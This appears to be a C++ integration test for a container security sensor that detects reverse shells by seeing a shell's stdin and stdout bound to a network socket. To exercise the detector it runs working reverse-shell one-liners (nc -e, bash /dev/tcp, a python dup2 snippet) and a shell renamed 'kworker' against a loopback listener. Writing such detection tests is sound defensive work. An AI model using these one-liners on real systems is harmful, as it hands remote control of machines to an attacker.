// Reverse shells by behaviour, on the real kernel: whatever joins a shell to
// a network socket (busybox nc -e, bash's /dev/tcp, a python dup2 one-liner,
// a renamed copy of a shell), the exec's stdio says so, and the verdict names
// the shell's own process. Shells on pipes and unix sockets stay quiet.
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <fstream>
#include <set>
#include <sstream>

#include "harness.h"
#include "loopback_listener.h"

using namespace crowsnest;
using namespace crowsnest::test;

namespace {

const std::set<std::string> kStdioRules = {"reverse_shell_stdio_socket", "program_stdio_on_socket"};

std::string read_text(const std::string &path) {
    std::ifstream in(path);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
}

// `argv` started by `runc exec --detach` in container `name`, with both its
// stdin and stdout on `fd` (detached, runc hands its own stdio to the
// process). Returns runc's exit status, or -1.
int run_with_stdio(const std::string &name, const std::vector<std::string> &argv, int fd) {
    std::vector<std::string> all = {"runc", "exec", "--detach", name};
    all.insert(all.end(), argv.begin(), argv.end());
    const pid_t pid = fork();
    if (pid < 0) return -1;
    if (pid == 0) {
        dup2(fd, 0);
        dup2(fd, 1);
        std::vector<char *> args;
        for (auto &a : all) args.push_back(a.data());
        args.push_back(nullptr);
        execvp("runc", args.data());
        _exit(127);
    }
    int status = 0;
    if (waitpid(pid, &status, 0) != pid) return -1;
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

// The verdict of `rule` in container `id` for a process whose arguments are `args`.
bool wait_stdio_verdict(SensorProcess &sensor, const std::string &rule, const std::string &id,
                        const std::vector<std::string> &args, v1::Verdict &found) {
    return sensor.wait_verdict(
        [&](const v1::Verdict &v) {
            if (v.rule() != rule || v.container().id() != id || v.process().args_size() != int(args.size()))
                return false;
            for (size_t i = 0; i < args.size(); i++)
                if (v.process().args(int(i)) != args[i]) return false;
            return true;
        },
        &found);
}

// The verdict's process is the live process whose fd 0 is the socket the
// verdict names, in the container's cgroup, connected to `listener`.
void check_shell_process(const v1::Verdict &v, const std::string &id, LoopbackListener &listener) {
    INFO(v.rule() << " pid " << v.process().pid());
    REQUIRE(v.event().stdio_size() == 3);
    const v1::Stdio &in = v.event().stdio(0);
    CHECK(in.fd() == 0);
    CHECK(in.type() == "ipv4");
    CHECK(in.l4proto() == "tcp");
    CHECK(in.remote_ip() == "127.0.0.1");
    CHECK(in.remote_port() == listener.port);
    CHECK(listener.had_client(uint16_t(in.local_port())));
    const std::string proc = "/proc/" + std::to_string(v.process().pid());
    char link[64] = {};
    REQUIRE(readlink((proc + "/fd/0").c_str(), link, sizeof(link) - 1) > 0);
    CHECK(std::string(link) == "socket:[" + std::to_string(in.ino()) + "]");
    CHECK(read_text(proc + "/cgroup").find(id) != std::string::npos);
}

// No verdict of the stdio rules in container `id` for a process marked "nearmiss".
void check_no_near_miss_verdicts(SensorProcess &sensor, const std::string &id) {
    for (const auto &v : sensor.verdicts()) {
        if (v.container().id() != id || !kStdioRules.count(v.rule())) continue;
        std::string args;
        for (const auto &a : v.process().args()) args += a + " ";
        INFO(v.rule() << ": " << args);
        CHECK(args.find("nearmiss") == std::string::npos);
    }
}

}  // namespace

TEST_CASE("reverse shells by their stdio: nc -e, bash /dev/tcp, python dup2 and a renamed shell, not pipes or unix sockets",
          "[integration][stdio]") {
    SensorProcess sensor;
    START_SENSOR(sensor);
    LoopbackListener listener(true);
    const std::string id = random_container_id(), port = std::to_string(listener.port);
    RuncContainer c;

    SECTION("busybox: nc -e, and near misses on a pipe and a unix socket") {
        START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id)}));
        // near misses first, marked "nearmiss": a shell reading a pipe, and one
        // whose stdin and stdout are a unix socket (what a shim or socket activation hands it)
        REQUIRE(c.exec("echo nearmiss | sh -c 'read line; test \"$line\" = nearmiss'") == 0);
        int pair[2];
        REQUIRE(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) == 0);
        REQUIRE(run_with_stdio(c.name(), {"/bin/sh", "-c", "true nearmiss"}, pair[1]) == 0);
        close(pair[0]);
        close(pair[1]);

        // busybox nc runs the shell with the connection as its stdin and stdout;
        // the listener keeps it open, so the shell waits for commands
        REQUIRE(c.exec("nc 127.0.0.1 " + port + " -e /bin/sh -s reverse >/dev/null 2>&1 &") == 0);
        v1::Verdict v;
        REQUIRE(wait_stdio_verdict(sensor, "reverse_shell_stdio_socket", id, {"/bin/sh", "-s", "reverse"}, v));
        CHECK(v.cgroup_id() == c.cgroup_id());
        CHECK(v.category() == "scanner");
        CHECK(v.severity() == "critical");
        check_shell_process(v, id, listener);
        CHECK(v.event().stdio(1).type() == "ipv4");  // nc makes fd 1 the socket too

        // --events shows what the near misses' stdio was
        auto stdin_type = [&](const std::string &arg) {
            for (const auto &e : sensor.events())
                if (e.container().id() == id && e.event().type() == "exec" && e.event().stdio_size() == 3)
                    for (const auto &a : e.event().argv())
                        if (a.find(arg) != std::string::npos) return e.event().stdio(0).type();
            return std::string("(no exec)");
        };
        CHECK(stdin_type("read line") == "pipe");
        CHECK(stdin_type("true nearmiss") == "unix");
        check_no_near_miss_verdicts(sensor, id);
    }

    SECTION("a Debian userland: bash's /dev/tcp, python's dup2, a renamed dash") {
        START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id), .host_userland = true}));
        // near miss: a health probe's shell holds a socket on fd 3, and runs a shell on pipes
        REQUIRE(c.run({"/bin/bash", "-c",
                       "exec 3<>/dev/tcp/127.0.0.1/" + port +
                           " && echo nearmiss >&3 && echo x | (sh -c 'cat; true nearmiss')"}) == 0);

        // bash's own /dev/tcp redirect around an interactive bash
        REQUIRE(c.run({"/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/" + port + " 0>&1 &"}) == 0);
        v1::Verdict v;
        REQUIRE(wait_stdio_verdict(sensor, "reverse_shell_stdio_socket", id, {"bash", "-i"}, v));
        check_shell_process(v, id, listener);
        CHECK(v.event().stdio(2).type() == "ipv4");  // >& joins stderr too

        // python dup2s its socket onto 0 and 1, then becomes a shell
        const std::string python =
            "import socket, os\n"
            "s = socket.create_connection(('127.0.0.1', " + port + "))\n"
            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n"
            "os.execv('/bin/sh', ['sh', '-s', 'from-python'])\n";
        REQUIRE(c.run({"/bin/bash", "-c", "python3 -c \"$0\" </dev/null >/dev/null 2>&1 &", python}) == 0);
        REQUIRE(wait_stdio_verdict(sensor, "reverse_shell_stdio_socket", id, {"sh", "-s", "from-python"}, v));
        check_shell_process(v, id, listener);

        // a copy of dash called kworker: no shell name anywhere, but a network peer drives it
        REQUIRE(c.run({"/bin/bash", "-c",
                       "cp /usr/bin/dash /tmp/kworker && exec 3<>/dev/tcp/127.0.0.1/" + port +
                           " && (/tmp/kworker -s renamed <&3 >&3 2>/dev/null &)"}) == 0);
        REQUIRE(wait_stdio_verdict(sensor, "program_stdio_on_socket", id, {"/tmp/kworker", "-s", "renamed"}, v));
        CHECK(v.severity() == "medium");
        check_shell_process(v, id, listener);
        CHECK(v.event().stdio(1).ino() == v.event().stdio(0).ino());
        check_no_near_miss_verdicts(sensor, id);
    }
}
